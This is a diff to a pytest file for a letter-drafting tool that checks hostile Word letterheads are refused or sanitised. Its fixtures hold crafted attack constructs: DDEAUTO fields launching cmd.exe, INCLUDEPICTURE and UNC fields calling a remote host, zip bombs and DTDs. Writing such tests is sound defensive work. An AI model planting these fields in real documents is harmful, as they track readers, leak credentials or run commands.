@@ -144,7 +144,26 @@ def in_body(xml: str):
     return lambda doc: doc.replace(b"<w:body><w:p/>", b"<w:body>" + xml.encode())
 
 
+def field(*pieces: str, result: str = "x") -> str:
+    """The runs of a complex field, its instruction split over one instrText run per piece; a piece
+    that starts with "<" is put in as it is (a nested field)."""
+    code = "".join(p if p.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>'
+                   for p in pieces)
+    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="separate"/>'
+            f'</w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+
+def in_header(xml: str):
+    return lambda x: x.replace(b"</w:p></w:hdr>", xml.encode() + b"</w:p></w:hdr>")
+
+
+def in_footer(xml: str):
+    return lambda x: x.replace(b"</w:p></w:ftr>", xml.encode() + b"</w:p></w:ftr>")
+
+
 DOC_RELS = "word/_rels/document.xml.rels"
+SPY = "http://198.51.100.7/x.png"
+UNC = r"\\\\198.51.100.7\\share\\x.docx"      # as a field string writes \\198.51.100.7\share\x.docx
 HOSTILE = {
     "not-a-zip": ({}, "not a Word file (not a zip archive)"),
     "zip-bomb": ({"word/media/pad.bin": b"\0" * (8 * 2**20)}, "a zip bomb"),
@@ -183,6 +202,27 @@ HOSTILE = {
                      b'<w:fldChar w:fldCharType="end"/><w:tab/>')}, "INCLUDEPICTURE field"),
     "dde-field": ({"word/footer1.xml": lambda x: x.replace(b'w:instr=" PAGE "', b'w:instr=" DDEAUTO c:\\\\x "')},
                   "DDEAUTO field"),
+    # Field names in any case, instructions split over runs, nested fields, remote addresses.
+    "field-lower-case": ({"word/footer1.xml": lambda x: x.replace(
+        b'w:instr=" PAGE "', f'w:instr=" includepicture &quot;{SPY}&quot; \\d "'.encode())},
+        "INCLUDEPICTURE field"),
+    "field-split-over-runs": ({"word/header1.xml": in_header(field(" Include", f'Picture "{SPY}" \\d '))},
+                              "INCLUDEPICTURE field"),
+    "field-split-mid-name": ({"word/header1.xml": in_header(field(" INCLU", "DE", "TEXT ", f'"{UNC}"'))},
+                             "INCLUDETEXT field"),
+    "field-in-body": ({"word/document.xml": in_body(
+        '<w:p><w:fldSimple w:instr=" Link Excel.Sheet.8 &quot;C:\\\\q.xls&quot; Sheet1 \\a "/></w:p>')},
+        "LINK field"),
+    "field-ddeauto-mixed-case": ({"word/document.xml": in_body(
+        "<w:p>" + field(" DdeAuto ", 'c:\\\\Windows\\\\system32\\\\cmd.exe "/c calc"') + "</w:p>")},
+        "DDEAUTO field"),
+    "field-nested-fetch": ({"word/header1.xml": in_header(field(' IF 1 = 1 "', field(f' includePicture "{SPY}" '),
+                                                                 '" "" '))}, "INCLUDEPICTURE field"),
+    "field-name-from-nested-field": ({"word/header1.xml": in_header(field(
+        " ", field(' QUOTE "INCLUDEPICTURE" '), f' "{SPY}" '))}, "takes its name from another field"),
+    "field-unc-path": ({"word/footer1.xml": in_footer(field(f' QUOTE "{UNC}" '))}, "names a remote address"),
+    "field-url": ({"word/footer1.xml": in_footer(field(" SYMBOL 83 ", '\\f "https://198.51.100.7/f" '))},
+                  "names a remote address"),
     "dtd": ({"word/styles.xml": lambda x: x.replace(
         b"<w:styles ", b'<!DOCTYPE lol [<!ENTITY a "aaaa">]><w:styles ', 1)}, "declares a DTD"),
     "fake-image": ({"word/media/logo.png": b"MZ\x90\x00 not an image"}, "is not a PNG, JPEG or GIF image"),
@@ -203,15 +243,21 @@ def test_hostile_letterhead_refused(case, tmp_path):
     else:
         changes, reason = HOSTILE[case]
         evil = mutate(folder, changes)
-    spec = tmp_path / "spec.yaml"
-    spec.write_text((REPO / "letters" / "erc-entity-list.yaml").read_text().replace(
-        'letterhead: ["Congressional-Executive Commission on China"]', f"letterhead: {evil}"))
-    out = tmp_path / "out"
-    res = run("draft", spec, "-o", out, "--format", "docx", "--format", "txt")
+    res, out = draft_with(evil, tmp_path)
     assert res.exit_code == 1, res.output
-    assert f"{evil}: letterhead refused: " in res.output and reason in res.output
+    # The error names the letterhead or the spec line that names it, then the reason.
+    assert "letterhead refused: " in res.output and reason in res.output, res.output
     assert "Traceback" not in res.output
     assert not out.exists()          # nothing written, not even the folder
+
+
+def draft_with(letterhead: Path, tmp_path: Path):
+    """`drafter draft` of the example letter on `letterhead`: the CLI result and the output folder."""
+    spec = tmp_path / "spec.yaml"
+    spec.write_text((REPO / "letters" / "erc-entity-list.yaml").read_text().replace(
+        'letterhead: ["Congressional-Executive Commission on China"]', f"letterhead: {letterhead}"))
+    out = tmp_path / "out"
+    return run("draft", spec, "-o", out, "--format", "docx", "--format", "txt"), out
 
 
 def test_the_example_is_accepted_as_is(tmp_path):
@@ -226,7 +272,7 @@ def test_missing_letterhead_file(tmp_path):
     spec.write_text((REPO / "letters" / "erc-entity-list-letterhead.yaml").read_text().replace(
         "letterheads/cecc-example.docx", "letterheads/nope.docx"))
     res = run("draft", spec, "-o", tmp_path / "out")
-    assert res.exit_code == 1 and "letterhead file not found" in res.output
+    assert res.exit_code == 1 and re.search(r"letterhead file .*not found", res.output), res.output
     assert re.search(r"nope\.docx", res.output)
 
 
@@ -248,3 +294,129 @@ def test_text_forms_take_the_first_page_header(campaign, tmp_path):
     text = next(out.glob("*.txt")).read_text()
     assert text.startswith("Tibet Action Example, 1 Main Street")
     assert "(continued)" not in text
+
+
+# What a draft takes from an accepted letterhead -------------------------------------------------
+
+def draft_parts(letterhead: Path, tmp_path: Path) -> dict[str, str]:
+    """Draft the example letter on `letterhead`; the draft's XML parts, checked by docx_check."""
+    res, out = draft_with(letterhead, tmp_path)
+    assert res.exit_code == 0, res.output
+    [path] = out.glob("*.docx")
+    docx_check(path)
+    with zipfile.ZipFile(path) as z:
+        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))}
+
+
+A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
+LINKS = {
+    # An external hyperlink relationship around text, the same on the logo (click), and a HYPERLINK field.
+    "header": {"word/_rels/header1.xml.rels": lambda x: add_rel(x, "rId7", "hyperlink", "http://198.51.100.7/t",
+                                                                external=True),
+               "word/header1.xml": lambda x: in_header(
+                   '<w:hyperlink r:id="rId7"><w:r><w:t>www.tibet-action.example</w:t></w:r></w:hyperlink>'
+                   + field(' HYPERLINK "http://198.51.100.7/donate" ', result="Donate"))(x).replace(
+                   b'descr="Commission seal"/>',
+                   f'descr="Commission seal"><a:hlinkClick xmlns:a="{A_NS}" r:id="rId7"/></wp:docPr>'.encode())},
+    # The footer has no relationships yet; a HYPERLINK field to a UNC path goes too.
+    "footer": {"word/_rels/footer1.xml.rels": add_rel(
+                   b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                   b"</Relationships>", "rId1", "hyperlink", "mailto:spy@198.51.100.7", external=True),
+               "word/footer1.xml": in_footer(
+                   '<w:hyperlink r:id="rId1"><w:r><w:t>www.tibet-action.example</w:t></w:r></w:hyperlink>'
+                   f'<w:fldSimple w:instr=" hyperlink &quot;{UNC}&quot; "><w:r><w:t>Donate</w:t></w:r>'
+                   "</w:fldSimple>")},
+}
+
+
+@pytest.mark.parametrize("where", sorted(LINKS))
+def test_links_in_header_and_footer_are_dropped_keeping_their_text(where, tmp_path):
+    parts = draft_parts(mutate(tmp_path, LINKS[where]), tmp_path)
+    part = parts[f"word/{where}1.xml"]
+    assert "www.tibet-action.example" in part and "Donate" in part      # the words stay
+    assert "hyperlink" not in part.lower() and "hlinkClick" not in part  # the links go
+    assert not [n for n, text in parts.items() if "198.51.100.7" in text]
+    assert not [n for n in parts if n.startswith(("word/_rels/header", "word/_rels/footer"))
+                and "External" in parts[n]]
+    assert 'w:instr=" PAGE "' in parts["word/footer1.xml"]           # other fields stay
+    if where == "header":
+        assert parts["word/_rels/header1.xml.rels"].count("<Relationship ") == 1   # the logo
+
+
+PNG = zipfile.ZipFile(EXAMPLE).read("word/media/logo.png")
+WIN_PATH = r"C:\Users\tenzin.dolkar\Desktop\seal.png"
+NIX_PATH = "/home/tenzin/Pictures/logo.png"
+
+
+def word_letterhead(tmp_path: Path, patch=lambda part, xml: xml) -> Path:
+    """A letterhead made by python-docx (theme fonts in its styles, as Word writes them), with a logo
+    in the header and one in the footer; `patch(part name, xml)` edits the header and footer XML."""
+    docx = pytest.importorskip("docx")
+    (tmp_path / "seal.png").write_bytes(PNG)
+    document = docx.Document()
+    section = document.sections[0]
+    for story, words in ((section.header, "Tibet Action Example"), (section.footer, "1 Main Street")):
+        story.paragraphs[0].add_run().add_picture(str(tmp_path / "seal.png"), width=docx.shared.Inches(0.5))
+        story.paragraphs[0].add_run(words)
+    built = tmp_path / "built.docx"
+    document.save(str(built))
+    return mutate(tmp_path, {name: (lambda name: lambda x: patch(name, x.decode()).encode())(name)
+                             for name in zipfile.ZipFile(built).namelist()
+                             if re.fullmatch(r"word/(header|footer)\d*\.xml", name)},
+                  name="word-letterhead.docx", base=built.read_bytes())
+
+
+def test_image_names_and_path_like_alt_text_are_not_copied(tmp_path):
+    def paths(part, xml):
+        if "header" in part:      # Word's names and alt text, as a user's computer left them
+            xml = re.sub(r'(<wp:docPr id="\d+" )name="[^"]*"(?: descr="[^"]*")?',
+                         lambda m: f'{m[1]}name="{WIN_PATH}" descr="{WIN_PATH}" title="{NIX_PATH}"', xml)
+            return re.sub(r'<pic:cNvPr ([^>]*?)name="[^"]*"',
+                          lambda m: f'<pic:cNvPr {m[1]}name="{NIX_PATH}" descr="{NIX_PATH}"', xml)
+        return re.sub(r'(<wp:docPr id="\d+" name="[^"]*")', r'\1 descr="Tibet Action seal"', xml)
+    evil = word_letterhead(tmp_path, paths)
+    with zipfile.ZipFile(evil) as z:       # the test file does carry the paths
+        header = next(z.read(n).decode() for n in z.namelist() if n.startswith("word/header"))
+        assert header.count("tenzin") == 5 and 'descr="Tibet Action seal"' not in header
+    parts = draft_parts(evil, tmp_path)
+    assert not [n for n, text in parts.items() if "tenzin" in text.lower() or "Desktop" in text]
+    header, footer = (next(t for n, t in parts.items() if re.fullmatch(rf"word/{k}\d\.xml", n))
+                      for k in ("header", "footer"))
+    assert re.search(r'<wp:docPr id="\d+" name="Picture 1" descr="" title=""/>', header), header
+    assert 'name="Picture 1" descr=""' in header.split("<pic:cNvPr ")[1]
+    assert 'descr="Tibet Action seal"' in footer        # alt text that is no path stays
+    assert "seal.png" not in header + footer            # python-docx's file name is gone too
+
+
+def test_theme_fonts_keep_tibetan_and_chinese_font_slots(tmp_path):
+    from lxml import etree
+    evil = word_letterhead(tmp_path)
+    with zipfile.ZipFile(evil) as z:
+        assert 'w:eastAsiaTheme="minorEastAsia"' in z.read("word/styles.xml").decode()
+    styles = draft_parts(evil, tmp_path)["word/styles.xml"]
+    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+    fonts = etree.fromstring(styles.encode()).find(f"{w}docDefaults/{w}rPrDefault/{w}rPr/{w}rFonts")
+    assert fonts.get(f"{w}eastAsia") == "SimSun" and fonts.get(f"{w}cs") == "Microsoft Himalaya"
+    assert fonts.get(f"{w}asciiTheme") == "minorHAnsi"             # the letterhead's Latin font stays
+    assert "eastAsiaTheme" not in styles and "cstheme" not in styles
+
+
+@pytest.mark.parametrize("defaults, expect", [
+    ("", {"eastAsia": "SimSun", "cs": "Microsoft Himalaya"}),                       # no docDefaults
+    ('<w:docDefaults><w:rPrDefault><w:rPr><w:sz w:val="22"/></w:rPr></w:rPrDefault></w:docDefaults>',
+     {"eastAsia": "SimSun", "cs": "Microsoft Himalaya"}),                            # no rFonts
+    ('<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Georgia" w:eastAsia="MS Mincho" '
+     'w:cstheme="minorBidi"/></w:rPr></w:rPrDefault></w:docDefaults>',
+     {"ascii": "Georgia", "eastAsia": "MS Mincho", "cs": "Microsoft Himalaya"}),     # its own East Asian font
+])
+def test_merged_styles_name_east_asian_and_complex_script_fonts(defaults, expect):
+    from lxml import etree
+    from drafter.letterhead import merge_styles
+    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+    styles = (f'<w:styles xmlns:w="{w[1:-1]}">{defaults}<w:style w:type="paragraph" w:default="1" '
+              'w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>').encode()
+    root = etree.fromstring(merge_styles(styles))
+    assert etree.QName(root[0]).localname == "docDefaults"       # first, as the schema orders it
+    fonts = root.find(f"{w}docDefaults/{w}rPrDefault/{w}rPr/{w}rFonts")
+    assert {etree.QName(k).localname: v for k, v in fonts.attrib.items()} == expect
+    assert root.find(f"{w}docDefaults/{w}rPrDefault/{w}rPr")[0] is fonts
